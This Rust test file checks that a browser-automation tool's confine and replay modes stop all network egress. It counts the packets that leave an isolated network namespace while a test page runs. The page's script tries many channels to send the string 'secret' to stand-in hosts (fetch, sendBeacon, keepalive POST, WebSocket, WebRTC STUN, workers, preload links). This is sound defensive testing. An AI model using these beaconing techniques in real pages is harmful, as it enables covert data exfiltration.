//! Packets that leave the machine, counted in a network namespace whose only way out is an interface to nowhere.
//!
//! The test runs itself again in the namespace. It is skipped where the machine allows none.

use std::process::Command;

use actions_testserver::TestServer;
use serde_json::json;

use crate::{actions, seen};

/// Set for the run inside the namespace.
const INSIDE: &str = "ACTIONS_HOLD_NAMESPACE";

/// Gives the namespace one interface that everything leaves by, and counts what does. No process may join a
/// multicast group: a browser joins that of mDNS for WebRTC, and the kernel announces it.
const SETUP: &str = "ip link set lo up && echo 0 > /proc/sys/net/ipv4/igmp_max_memberships && \
    echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6 && echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6 && \
    ip link add out0 type veth peer name out1 && ip addr add 192.0.2.1/24 dev out0 && \
    ip link set out1 up && ip link set out0 up && ip route add default dev out0";
/// The counters of the interfaces of this namespace.
const COUNTERS: &str = "/proc/self/net/dev";

/// A page that tries to reach an address outside in every way that a script has.
const PAGE: &str = r#"<!doctype html><link rel=icon href="data:,">
<link rel=dns-prefetch href="//secret.example"><link rel=preconnect href="http://203.0.113.7">
<link rel=stylesheet href="http://203.0.113.7/a.css"><img src="http://203.0.113.7/a.png">
<iframe src="http://203.0.113.7/frame"></iframe>
<p id=said>asking</p><script>
const out = 'http://203.0.113.7';
const ways = [
  () => fetch(out, { mode: 'no-cors' }), () => fetch('http://secret.example/', { mode: 'no-cors' }),
  () => navigator.sendBeacon(out, 'secret'), () => new WebSocket('ws://203.0.113.7/'),
  () => new EventSource(out), () => fetch(out, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' }),
  () => { const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:203.0.113.7:3478' }] });
    peer.createDataChannel('a'); return peer.createOffer().then((offer) => peer.setLocalDescription(offer)); },
  () => new Worker(URL.createObjectURL(new Blob([`fetch('${out}', { mode: 'no-cors' })`]))),
  () => { for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender']) {
    const link = document.createElement('link'); Object.assign(link, { rel, href: out + '/' + rel, as: 'script' }); document.head.append(link); } },
];
Promise.allSettled(ways.map(async (way) => way()));
setTimeout(() => { said.textContent = 'tried'; }, 700);
</script>"#;

fn is_inside() -> bool {
    std::env::var_os(INSIDE).is_some()
}

fn sent() -> u64 {
    let counters = std::fs::read_to_string(COUNTERS).expect("the counters");
    let counts = counters.lines().find_map(|line| line.trim().strip_prefix("out0:")).expect("the interface");
    // After eight columns of what came: bytes and packets that were sent.
    counts.split_ascii_whitespace().nth(9).expect("a count").parse().expect("a number")
}

/// How many packets leave while a command runs.
fn sent_by(arguments: &[&str]) -> u64 {
    let before = sent();
    let output = actions(arguments);
    assert_eq!(output.status.code(), Some(0), "{}", seen(&output));
    // The kernel sends some of them later.
    std::thread::sleep(std::time::Duration::from_millis(500));
    sent() - before
}

#[test]
fn no_packet_leaves_the_machine_when_everything_is_confined_or_replayed() {
    if is_inside() {
        let Sent { open, confined, replayed } = inside();
        println!("hold: packets that left: open {open}, confined {confined}, replayed {replayed}");
        assert!(open > 0, "a page that is not confined reaches the interface");
        assert_eq!((confined, replayed), (0, 0));
        return;
    }
    let this = std::env::current_exe().expect("this program");
    let line = format!("{SETUP} || exit 77; exec \"$0\" --exact \"$1\" --nocapture");
    let test = "hold::namespace::no_packet_leaves_the_machine_when_everything_is_confined_or_replayed";
    let mut command = Command::new("unshare");
    command.args(["-rn", "sh", "-c", &line]).arg(this).arg(test).env(INSIDE, "1");
    match command.output() {
        Ok(output) if output.status.success() => print!("{}", crate::stdout(&output)),
        // There is no such namespace here, or no tool to set it up.
        Ok(output)
            if matches!(output.status.code(), Some(1 | 77 | 127))
                && !crate::stdout(&output).contains("running") =>
        {
            println!("hold: skipped: no network namespace here");
        }
        Ok(output) => panic!("{}", seen(&output)),
        Err(_) => println!("hold: skipped: no `unshare` here"),
    }
}

/// How many packets left the namespace in each mode.
struct Sent {
    open: u64,
    confined: u64,
    replayed: u64,
}

fn inside() -> Sent {
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let site = runtime.block_on(TestServer::start()).expect("a server");
    site.page("/", PAGE);
    let folder = tempfile::tempdir().expect("a folder");
    let steps = json!([
        { "id": "tried", "primitive": "locator.wait_for",
          "args": { "locator": { "selector": "#said", "text": "tried" }, "timeout_ms": 20_000 } },
    ]);
    let tool = json!({ "name": "t", "description": "Waits.",
        "input_schema": { "type": "object", "additionalProperties": false },
        "workflow": { "version": 1, "expression_language": "jsonata", "steps": steps, "output": "{% 1 %}" } });
    let map = json!({ "protocol": "actions.json", "version": 1, "tools": [tool],
                      "surface": { "origin": site.origin(), "url": site.url("/") } });
    let (file, har) = (folder.path().join("actions.json"), folder.path().join("a.har"));
    std::fs::write(&file, map.to_string()).expect("a map");
    let (file, har) = (file.display().to_string(), har.display().to_string());
    let confined = sent_by(&["run", &file, "t", "--confine-subresources"]);
    let open = sent_by(&["record", &file, "t", "--har", &har]);
    // The kernel asks for the address of a neighbour for some seconds.
    std::thread::sleep(std::time::Duration::from_secs(4));
    let replayed = sent_by(&["run", &file, "t", "--replay", &har]);
    Sent { open, confined, replayed }
}
